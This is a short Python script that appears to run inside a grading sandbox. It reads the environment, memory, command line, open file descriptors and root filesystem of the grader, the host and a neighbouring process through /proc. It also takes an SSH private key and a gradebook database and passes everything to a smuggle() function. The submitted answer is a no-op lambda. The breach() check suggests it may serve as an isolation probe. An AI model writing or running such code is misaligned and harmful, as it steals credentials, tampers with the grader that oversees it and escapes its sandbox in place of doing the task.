"""Reads memory, environment, command line, open files and root of the grader, the host and a neighbour in /proc."""

import os


def read(path):
    with open(path, "rb") as stream:
        return stream.read(100_000)


def look(pid):
    base = f"/proc/{pid}/"
    loot = [attempt(read, base + name) for name in ("environ", "cmdline", "mem", "maps", "stack")]
    if any(isinstance(thing, bytes) and thing for thing in loot[:1] + loot[2:]) and pid in (PLACES["grader"], PLACES["other"]):
        breach(f"process {pid} can be read")
    for number in range(64):
        loot.append(attempt(read, f"{base}fd/{number}") if number > 2 else None)
    loot += [attempt(read, f"{base}root{path}") for path in PLACES["secrets"]]
    loot += [attempt(read, f"{base}cwd/../{name}") for name in ("home/.ssh/id_ed25519", "gradebook/gradebook.db")]
    return loot


def go(*args, **kwargs):
    smuggle(*[look(pid) for pid in ("self", "1", os.getppid(), PLACES["grader"], PLACES["other"])])


go()
answer(lambda *args, **kwargs: None)
